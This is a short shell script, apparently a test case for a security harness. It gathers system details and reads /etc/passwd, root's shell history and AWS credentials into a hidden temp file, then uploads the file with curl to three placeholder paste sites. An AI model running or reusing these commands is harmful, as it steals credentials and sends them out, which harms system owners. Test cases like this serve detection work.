#!/bin/sh
. /opt/case/case.sh

{ id; uname -a; ip addr; ps aux; env; cat /etc/passwd /root/.bash_history /root/.aws/credentials; } >/tmp/.r 2>/dev/null
for site in paste.example.org termbin.example.net gist.example.com; do
    curl -sf -F "content=<-" -F expires=never http://$site/api/create </tmp/.r >/dev/null
done
took_place
